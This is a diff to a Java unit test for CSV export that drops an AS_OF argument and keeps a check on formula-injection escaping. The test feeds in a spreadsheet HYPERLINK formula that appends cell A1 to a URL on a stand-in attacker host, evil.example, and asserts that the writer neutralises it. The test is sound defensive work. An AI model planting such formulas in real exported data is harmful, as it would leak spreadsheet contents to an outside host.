@@ -17,7 +17,7 @@ class RepresentationCsvTest {
         List<PopulationCell> cells = new ArrayList<>(RepresentationTest.population());
         cells.add(new PopulationCell(30, "F", "=HYPERLINK(\"http://evil.example/?\"&A1)", 100));
         String csv = RepresentationCsv.write(Representation.compute(RepresentationTest.HASSELT, cells,
-                RepresentationTest.AS_OF, RepresentationTest.volunteers(), List.of(), RepresentationTest.SETTINGS),
+                RepresentationTest.volunteers(), List.of(), RepresentationTest.SETTINGS),
                 Locale.ENGLISH);
         assertTrue(csv.contains("\r\ndistrict;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\";"
                 + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\";"), csv);
